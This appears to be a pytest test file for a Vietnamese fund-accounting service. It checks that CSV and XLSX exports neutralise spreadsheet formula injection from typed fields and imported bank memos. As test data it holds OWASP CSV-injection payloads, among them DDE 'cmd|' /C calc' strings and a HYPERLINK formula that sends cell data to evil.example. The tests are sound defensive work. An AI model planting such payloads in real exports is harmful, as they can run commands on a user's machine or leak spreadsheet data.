"""Text typed by a treasurer or read from a bank memo never becomes a live formula in an
export: every CSV (the statement, the public statement, the books, the report, the yearly
summary) neutralises the classic payloads with a leading single quote and quotes every
text cell; every XLSX writes them as text cells, with no formula in the file."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from werkzeug.test import TestResponse

from service.adapters.csvfile import csv_writer, neutral
from tests.api.helpers import (
    API,
    MakeToken,
    auth,
    commune_with_fund,
    disburse,
    receive,
    register_unit,
)
from tests.api.test_bank_imports import finished

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
#: The classic CSV-injection payloads (OWASP), each starting a formula in Excel or Calc.
PAYLOADS = [
    HYPERLINK,
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "＝1+1",
]
#: A cell that a program splitting on ";" (as a Vietnamese Excel does) would cut in two.
SPLIT = 'Lan;=HYPERLINK("http://evil.example/","Xem")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PLAIN_NUMBER = re.compile(r"[+-]?\d[\d.,]*(?: ?(?:đ|%))?")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_text_that_would_start_a_formula_gets_a_single_quote_and_numbers_keep_their_sign() -> None:
    for payload in [*PAYLOADS, "\t=1+1", "\r=1+1", "\n=1+1", "-", "@"]:
        assert neutral(payload) == "'" + payload
    for kept in ["-1.500.000 đ", "-12", "+84", "157,3%", "Nguyễn Văn An", "'quoted", ""]:
        assert neutral(kept) == kept
    out = io.StringIO()
    csv_writer(out).writerow([-5, 2.5, None, HYPERLINK, "a;=1+1", True])
    assert out.getvalue() == (
        '-5,2.5,"","\'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"")","a;=1+1",True\r\n'
    )


def _memo_statement(memos: list[str]) -> bytes:
    """A Vietcombank statement whose credits carry ``memos``."""
    lines = [
        "NGÂN HÀNG TMCP NGOẠI THƯƠNG VIỆT NAM,,,,",
        "Ngày GD/ TNX Date/ Số CT/ Doc No,Số tiền ghi nợ/ Debit,Số tiền ghi có/ Credit,"
        "Số dư/ Balance,Nội dung chi tiết/ Transactions in detail",
    ]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for n, memo in enumerate(memos):
        writer.writerow([f"10/09/2025 5219.{1317 + n}", "", "500.000", "", memo])
    return ("\n".join(lines) + "\n" + out.getvalue()).encode()


def _world(client: FlaskClient, make_token: MakeToken) -> dict[str, Any]:
    """A commune whose name, fund, donors, notes, references, goods and bank memos carry
    the payloads, typed through the API and read from an imported bank statement."""
    world = commune_with_fund(client, make_token)
    t, f = world.treasurer, world.fund_id
    named = register_unit(client, world.admin, HYPERLINK, "commune", world.province_id)
    named_treasurer = make_token("treasurer", named["id"], name="Thủ quỹ")
    named_fund = ok_created(client, named_treasurer, named["id"])
    receive(client, named_treasurer, named_fund, 1_000_000, occurred_on="2025-03-01")
    for n, payload in enumerate(PAYLOADS):
        kind = "individual" if n % 2 else "organisation"
        receive(
            client,
            t,
            f,
            1_000_000 + n,
            occurred_on="2025-03-01",
            channel="bank",
            donor={"name": payload, "kind": kind},
            note=payload,
            bank_ref=f"{payload[:90]}{n}",
            voucher_no=payload[:50],
        )
    receive(
        client,
        t,
        f,
        2_000_000,
        occurred_on="2025-03-02",
        donor={"name": SPLIT, "kind": "organisation"},
    )
    receive(
        client,
        t,
        f,
        3_000_000,
        occurred_on="2025-03-03",
        channel="in_kind",
        in_kind={"description": HYPERLINK, "quantity": 2, "unit": "bao"},
    )
    disburse(
        client,
        t,
        f,
        100_000,
        occurred_on="2025-04-01",
        note=HYPERLINK,
        voucher_no="=1+1",
        channel="bank",
    )
    job = finished(
        client,
        t,
        client.post(
            f"{API}/funds/{f}/imports",
            data={"file": (io.BytesIO(_memo_statement([HYPERLINK, "@SUM(1+1)"])), "sao-ke.csv")},
            query_string={"preset": "vietcombank"},
            headers=auth(t),
            content_type="multipart/form-data",
        ),
    )
    assert job["recorded"] == 2, job
    return {
        "admin": world.admin,
        "treasurer": t,
        "fund": f,
        "commune": world.commune_id,
        "named": named["id"],
        "named_treasurer": named_treasurer,
        "named_fund": named_fund,
        "position": int(job["position"]),
    }


def ok_created(client: FlaskClient, token: str, unit_id: str) -> str:
    response = client.post(
        f"{API}/funds",
        json={"unit_id": unit_id, "name": HYPERLINK, "kind": "for_the_poor"},
        headers=auth(token),
    )
    assert response.status_code == 201, response.get_data(as_text=True)
    return str(response.get_json()["id"])


def _csv_cells(response: TestResponse) -> list[str]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutral_csv(cells: list[str], expected: list[str]) -> None:
    live = [c for c in cells if c.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(c)]
    assert live == [], live
    for payload in expected:
        assert "'" + payload in cells, (payload, cells)


def _assert_text_xlsx(response: TestResponse, expected: list[str]) -> None:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == XLSX
    raw = response.get_data()
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert "<f>" not in book.read(name).decode(), "a formula in the workbook"
    sheet = load_workbook(io.BytesIO(raw)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    for payload in expected:
        assert payload in texts, (payload, texts)


def test_every_csv_export_neutralises_formulas_typed_or_imported(
    client: FlaskClient, make_token: MakeToken
) -> None:
    w = _world(client, make_token)
    t, f, at = w["treasurer"], w["fund"], w["position"]
    donors = PAYLOADS
    masked_individuals = [p for n, p in enumerate(PAYLOADS) if n % 2 == 0]

    statement = _csv_cells(
        client.get(
            f"{API}/funds/{f}/statement",
            query_string={"format": "csv", "min_position": at},
            headers=auth(t),
        )
    )
    _assert_neutral_csv(statement, [*donors, "@SUM(1+1)"])
    public = _csv_cells(
        client.get(f"{API}/public/funds/{f}/statement", query_string={"format": "csv"})
    )
    _assert_neutral_csv(public, masked_individuals)
    quoted = '"' + SPLIT.replace('"', '""') + '"'
    for path, token in ((f"/funds/{f}/statement", t), (f"/public/funds/{f}/statement", None)):
        raw = client.get(API + path, query_string={"format": "csv"}, headers=auth(token))
        assert quoted in raw.get_data(as_text=True), "a cell split on ';' starts no formula"

    year = {"year": 2025, "min_position": at}
    for fmt in ("csv-vi",):
        receipts = _csv_cells(
            client.get(
                f"{API}/funds/{f}/books/receipts",
                query_string={**year, "format": fmt},
                headers=auth(t),
            )
        )
        _assert_neutral_csv(receipts, [*PAYLOADS, HYPERLINK])
        payments = _csv_cells(
            client.get(
                f"{API}/funds/{f}/books/payments",
                query_string={**year, "format": fmt},
                headers=auth(t),
            )
        )
        _assert_neutral_csv(payments, [HYPERLINK, "=1+1"])

    named, nt = w["named"], w["named_treasurer"]
    period = {"from": "2025-01-01", "to": "2025-12-31", "min_position": at}
    for fmt in ("csv", "csv-vi"):
        report = _csv_cells(
            client.get(
                f"{API}/units/{named}/report",
                query_string={**period, "format": fmt},
                headers=auth(nt),
            )
        )
        _assert_neutral_csv(report, [HYPERLINK] if fmt == "csv-vi" else [])
    summary = _csv_cells(
        client.get(
            f"{API}/units/{named}/summary",
            query_string={**year, "format": "csv-vi"},
            headers=auth(nt),
        )
    )
    _assert_neutral_csv(summary, [HYPERLINK])
    book = _csv_cells(
        client.get(
            f"{API}/funds/{w['named_fund']}/books/receipts",
            query_string={**year, "format": "csv-vi"},
            headers=auth(nt),
        )
    )
    _assert_neutral_csv(book, [HYPERLINK])


@pytest.mark.parametrize("book", ["receipts", "payments"])
def test_every_xlsx_export_writes_formulas_typed_or_imported_as_text(
    client: FlaskClient, make_token: MakeToken, book: str
) -> None:
    w = _world(client, make_token)
    t, f, at = w["treasurer"], w["fund"], w["position"]
    year = {"year": 2025, "min_position": at, "format": "xlsx"}
    expected = [*PAYLOADS, "@SUM(1+1)"] if book == "receipts" else [HYPERLINK, "=1+1"]
    _assert_text_xlsx(
        client.get(f"{API}/funds/{f}/books/{book}", query_string=year, headers=auth(t)), expected
    )
    named, nt = w["named"], w["named_treasurer"]
    _assert_text_xlsx(
        client.get(
            f"{API}/funds/{w['named_fund']}/books/{book}", query_string=year, headers=auth(nt)
        ),
        [HYPERLINK],
    )
    period = {"from": "2025-01-01", "to": "2025-12-31", "min_position": at, "format": "xlsx"}
    _assert_text_xlsx(
        client.get(f"{API}/units/{named}/report", query_string=period, headers=auth(nt)),
        [HYPERLINK],
    )
    _assert_text_xlsx(
        client.get(f"{API}/units/{named}/summary", query_string=year, headers=auth(nt)),
        [HYPERLINK],
    )


def test_every_csv_and_xlsx_the_service_writes_goes_through_the_one_writer() -> None:
    root = Path(__file__).resolve().parents[2] / "service"
    writers = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if re.search(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(", path.read_text())
    }
    assert writers == {"adapters/csvfile.py", "api/spreadsheets.py"}
